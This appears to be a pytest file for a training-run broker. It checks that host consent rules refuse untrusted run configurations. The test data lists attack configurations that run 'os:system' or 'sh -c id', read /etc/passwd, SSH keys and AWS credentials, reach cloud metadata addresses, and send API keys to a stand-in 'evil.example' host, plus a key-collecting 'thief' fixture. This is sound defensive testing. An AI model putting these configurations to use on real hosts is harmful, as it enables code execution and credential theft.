"""The owner of a run is a stranger: without consent its configuration runs no code on a host and
takes nothing.

Each attack is a RunSpec. It succeeds if the host accepts it, or if a secret leaves.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from broker.contract import wire
from broker.errors import UserError
from broker.settings.consent import check_consent
from broker.settings.host_rules import HostRules
from rewardhub.rewards.judge import JudgeArgs, JudgeReward

CODE = {"name": "code", "args": {"sandbox": "none"}}
SECRET = "juniper-velvet-4711"


def domain(**settings: Any) -> dict[str, Any]:
    return {"domains": {"a": {"env": "frozenlake", **settings}}}


def reward(name: str, **args: Any) -> dict[str, Any]:
    return domain(rewards=[{"name": name, "args": args}])


def engine(name: str, **args: Any) -> dict[str, Any]:
    return {"rollout": {"engine": name, "engine_args": args}}


def judge(source: dict[str, str], url: str = "https://evil.example/v1") -> dict[str, Any]:
    return reward("judge", base_url=url, api_key=source)


RUNS_CODE = {
    "file": domain(env="mine.py:Env"),
    "module": domain(env="os:system"),
    "reward-file": reward("mine.py:score"),
    "code-without-sandbox": reward("code", sandbox="none"),
    "code-without-memory-limit": reward("code", memory_mib=1 << 30),
    "code-with-packages": reward("code", packages=["/home"]),
    "environment-python": domain(env="python", env_args={"path": "q.jsonl"}),
    "environment-python-without-sandbox": domain(env="python", env_args={"sandbox": "none"}),
    "environment-agent": domain(env="agent", env_args={"command": ["sh", "-c", "id"]}),
    "agent-function": domain(env="agent", env_args={"function": "os:system"}),
    "isolation-process": domain(env="appworld", isolation="process"),
    "isolation-none": domain(env="gymnasium", env_args={"id": "CartPole-v1"}, isolation="none"),
    "isolation-thread": domain(env="textarena", isolation="thread"),
    "network": domain(isolation="sandbox", network=True),
    "readable": domain(isolation="sandbox", readable=["/root/.ssh"]),
    "pass-env": {"envhub": {"pass_env": ["AWS_SECRET_ACCESS_KEY"]}},
    "pass-env-of-rewards": {"rewardhub": {"pass_env": ["HF_TOKEN"]}},
    "no-memory-limit": {"envhub": {"worker_memory_mib": None}},
    "gymnasium-module": domain(env="gymnasium", env_args={"id": "antigravity:X-v0"}),
    "gymnasium-arguments": domain(env="gymnasium", env_args={"id": "X-v0", "make_args": {"entry_point": "os"}}),
    "observe": domain(env="gymnasium", env_args={"id": "CartPole-v1", "observe": "os:system"}),
    "opponent": domain(env="textarena", env_args={"id": "X-v0", "num_players": 2, "opponent": "os:system"}),
    "gem": domain(env="gem", env_args={"id": "code:CodeContest"}),
    "memory": domain(memory="os:system"),
    "length-estimator": domain(length_estimator="os:system"),
    "length-estimator-arguments": domain(length_estimator_args={"path": "x"}),
    "remote-code": {"model": {"path": "x/y", "trust_remote_code": True}},
    "remote-code-of-a-reward-model": reward("reward_model", path="x/y", trust_remote_code=True),
    "engine": engine("mine:Engine"),
    "sglang-remote-code": engine("sglang", flags={"trust-remote-code": True}),
    "sglang-command": engine("sglang", command=["sh", "-c", "id"]),
    "sglang-weights": engine("sglang", weights_dir="/home"),
    "vllm-extra": engine("vllm", extra={"worker_cls": "a.B"}),
    "vllm-extra-remote-code": engine("vllm", extra={"trust_remote_code": True}),
    "channel": {"broker": {"channel": "os:system"}},
    "api-on-all-interfaces": {"rollout": {"http_port": 8000, "http_bind": "0.0.0.0"}},
    "snapshot": {"rollout": {"snapshot": "/home/me/models"}},
    "unknown-section-key": {"rollout": {"launcher": "sh -c id"}},
    "unknown-plug-in": domain(env="an_installed_one"),
    "pattern-that-never-ends": reward("judge", base_url="https://api.openai.com/v1", score_pattern="(a+)+$(b)"),
    "body-of-requests": reward("judge", base_url="https://api.openai.com/v1", extra_body={"user": "x"}),
}  # fmt: skip

TAKES_FILES = {
    "questions": domain(env="qa", env_args={"path": "/etc/passwd"}),
    "evaluation": domain(
        env="qa", env_args={"path": "/data/q.jsonl", "eval_path": "/root/.ssh/id_rsa"}
    ),
    "corpus": domain(env="search", env_args={"path": "/data/q.jsonl", "corpus": "/var/log/syslog"}),
    "levels": domain(env="sokoban", env_args={"path": "/data/../etc/shadow"}),
    "catalogue": domain(
        env="webshop", env_args={"items": "/proc/self/environ", "attributes": "/data/a"}
    ),
    "games": domain(env="alfworld", env_args={"data": "/home"}),
    "template": {"model": {"chat_template": "/etc/passwd"}},
    "reward-model": reward("reward_model", path="/tmp"),
    "process-reward-model": reward("process_reward", path="/tmp"),
    "implicit-reward-model": reward("implicit_reward", path="x/y", reference="/tmp"),
    "vocabulary": {"model": {"tiny": {"vocab": "bpe", "corpus": "/etc/passwd"}}},
}

SENDS_REQUESTS = {
    "metadata": reward("judge", base_url="http://169.254.169.254/latest"),
    "loopback": engine("openai", base_url="http://127.0.0.1:8500/v1"),
    "disguised": domain(env="openenv", env_args={"url": "http://10.0.0.1\\@judge.example.com/"}),
    "environment": domain(env="openenv", env_args={"url": "http://10.0.0.1:2375"}),
}

TAKES_SECRETS = {
    "variable": judge({"env": "AWS_SECRET_ACCESS_KEY"}),
    "file": judge({"file": "~/.aws/credentials"}),
    "operator-key": judge({"file": "/home/me/store.keys/operator"}),
    "openai-key": judge({"env": "OPENAI_API_KEY"}),
    "openai-key-in-clear": judge({"env": "OPENAI_API_KEY"}, "http://api.openai.com/v1"),
    "other-key-to-openai": judge({"env": "HF_TOKEN"}, "https://api.openai.com/v1"),
    "other-key-to-loopback": judge({"env": "HF_TOKEN"}, "http://127.0.0.1:8000/v1"),
    "engine": engine("openai", base_url="https://evil.example/v1", api_key={"env": "HF_TOKEN"}),
    "function": domain(rewards=[{"name": "mine.py:score", "args": {"token": {"env": "HF_TOKEN"}}}]),
    "agent": domain(env="agent", env_args={"command": ["x"], "env": {"MINE": {"env": "HF_TOKEN"}}}),
}


def refused(config: dict[str, Any], *, is_trusted: bool = False, **spec: Any) -> str:
    """Return the reason why a host with /data refuses a run."""
    rules = HostRules.of(["JUDGE_KEY=judge.example.com"], ["/data"])
    run = wire.RunSpec(
        **{"run": "r", "wire_version": 1, "epoch": 1, "config": config, "model_path": "", **spec}
    )
    with pytest.raises(UserError) as error:
        check_consent(run, rules, is_trusted=is_trusted)
    assert "\n" not in str(error.value)
    return str(error.value)


@pytest.mark.parametrize("attack", RUNS_CODE)
def test_code(attack: str) -> None:
    assert "add --trust-run-code once" in refused(RUNS_CODE[attack])


@pytest.mark.parametrize("attack", TAKES_FILES)
def test_files(attack: str) -> None:
    assert "names files outside the folders that this host allows" in refused(TAKES_FILES[attack])


def test_digests_of_any_file() -> None:
    assert "data_digests: /dev/zero" in refused({}, data_digests={"/dev/zero": "0"})


def test_model_folder_of_the_host() -> None:
    assert "model_path: /tmp" in refused({}, model_path="/tmp")


@pytest.mark.parametrize("attack", SENDS_REQUESTS)
def test_requests(attack: str) -> None:
    assert "lets this host send requests" in refused(SENDS_REQUESTS[attack])


@pytest.mark.parametrize("attack", TAKES_SECRETS)
def test_secrets_even_of_a_trusted_owner(attack: str) -> None:
    assert "wants secrets of this host" in refused(TAKES_SECRETS[attack], is_trusted=True)


@pytest.fixture
async def thief() -> AsyncIterator[tuple[str, list[str]]]:
    """An endpoint that keeps the keys it gets."""
    keys: list[str] = []

    async def models(request: web.Request) -> web.Response:
        keys.append(request.headers.get("Authorization", ""))
        return web.json_response({"data": [{"id": "m"}]})

    application = web.Application()
    application.router.add_get("/v1/models", models)
    runner = web.AppRunner(application)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}/v1", keys
    await runner.cleanup()


@pytest.mark.parametrize("source", ["variable", "file"])
async def test_secret_of_a_reward_that_runs(
    source: str, thief: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Also where nobody looked at the configuration: the process of the judge itself has the rules."""
    url, keys = thief
    file = tmp_path / "key"
    file.write_text(SECRET)
    file.chmod(0o600)
    monkeypatch.setenv("HF_TOKEN", SECRET)
    monkeypatch.setenv("RL_HOST_RULES", "")
    HostRules().enforce()
    key = {"env": "HF_TOKEN"} if source == "variable" else {"file": str(file)}
    with pytest.raises(UserError, match="this host's rules do not allow"):
        await JudgeReward(JudgeArgs.model_validate({"base_url": url, "api_key": key})).start()
    assert keys == []
